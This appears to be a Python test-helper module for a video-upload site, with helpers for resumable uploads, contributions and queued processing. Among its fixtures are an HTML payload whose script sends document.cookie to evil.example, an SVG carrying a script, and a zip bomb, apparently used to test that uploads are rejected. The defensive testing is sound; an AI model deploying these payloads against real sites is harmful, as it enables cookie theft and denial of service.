"""What people send in to a site in tests: films, things that only look like films, and by which way."""

from __future__ import annotations

import base64
import io
import re
import zipfile
from pathlib import Path
from typing import Any

from holdfast.actions import contributed
from holdfast.jobs.executors import threads
from holdfast.jobs.workers import run
from holdfast.show import site
from holdfast.show.views import contribute, report, uploads
from holdfast.testing.films import film_plan, write_film

TUS = {"tus-resumable": "1.0.0"}
PIECE = "application/offset+octet-stream"
HTML = b"<!doctype html><html><script>fetch('//evil.example/'+document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def forget_limits() -> None:
    """As after an hour."""
    for limit in (uploads.new_uploads, contribute.contributions, contribute.askings, report.reports):
        limit.forget()


def film(folder: Path, seed: int = 77, seconds: int = 4) -> bytes:
    """A film that no archive of the tests has."""
    path = folder / f"sent {seed}.mp4"
    write_film(film_plan(seed, seconds, (320, 180)), path, tags={"title": ""})
    return path.read_bytes()


def zip_bomb() -> bytes:
    """A small ZIP of much nothing."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("film.mp4", bytes(50_000_000))
    return packed.getvalue()


def send(browser: Any, data: bytes, name: str = "film.mp4") -> str:
    """The id of an upload of the whole."""
    told = f"filename {base64.b64encode(name.encode()).decode()}"
    made = browser.post("/upload", headers={**TUS, "upload-length": str(len(data)), "upload-metadata": told})
    assert made.status_code == 201, made.content
    place = made.headers["Location"]
    brought = browser.patch(place, data, content_type=PIECE, headers={**TUS, "upload-offset": "0"})
    assert brought.status_code == 204, brought.content
    return str(place.rpartition("/")[2])


def hand_over(browser: Any, *uploads: str, **words: str) -> str:
    """The code of the receipt."""
    answer = browser.post("/contribute", {"consent": "yes", "upload": uploads, **words})
    assert answer.status_code == 302, re.findall(r'role="alert">([^<]*)', answer.content.decode())
    return str(answer.headers["Location"].rpartition("/")[2])


def work_through() -> None:
    """Do what the site would have done beside it."""
    archive = site.archive()
    run(archive.queue, contributed.handlers(archive.folder), threads, slots=1)
